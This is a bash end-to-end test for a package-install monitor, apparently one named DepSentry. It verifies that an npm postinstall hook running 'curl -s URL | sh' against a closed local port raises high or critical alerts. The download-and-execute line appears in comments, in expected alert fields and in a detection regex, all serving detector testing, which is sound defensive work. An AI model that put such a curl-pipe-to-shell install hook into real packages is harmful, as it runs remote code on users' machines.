#!/bin/bash
# A postinstall piping a download into a shell, `curl -s URL | sh` (the port
# is closed, nothing is fetched): alerted high or critical. The script is
# exactly that line, so the alerts themselves prove it ran (npm runs it as
# `sh -c 'curl -s ... | sh'`).
. "$(dirname "$0")/lib.sh"

need_cmd curl curl
tgz=$(npm_pack download-exec)
DS_E2E_PORT=$(closed_port)
export DS_E2E_PORT
ds_start

npm_install "$T/proj" "$tgz"

step "wait for a high or critical alert for curl or for the sh -c line"
a=$(wait_alert package.name=ds-e2e-download-exec --min-severity 73 \
	--expr 'f("process.name") == "curl" or "curl -s" in (f("process.command_line") or "")')
check_alert "$a" "the download-and-execute alert is incomplete" \
	rule.id=pm-suspicious-child \
	event.severity~'^(73|99)$' \
	depsentry.session.package_manager=npm "depsentry.session.pid=$NPM_PID" \
	depsentry.lifecycle_event=postinstall package.version=2.0.0

step "the curl process itself is alerted"
a=$(wait_alert package.name=ds-e2e-download-exec process.name=curl)
check_alert "$a" "the curl alert is incomplete" \
	"process.command_line=curl -s http://127.0.0.1:$DS_E2E_PORT/x" \
	process.parent.name~'^(sh|dash)$' \
	'process.parent.command_line*=| sh' \
	'event.severity>=73'

step "the sh -c line npm runs, a download piped into a shell, is critical"
a=$(wait_alert package.name=ds-e2e-download-exec \
	'process.command_line~^sh -c curl -s \S+ \| sh$')
check_alert "$a" "the 'curl ... | sh' hook line is not critical" \
	event.severity=99 "process.parent.pid=$NPM_PID" depsentry.depth=1

ds_finish
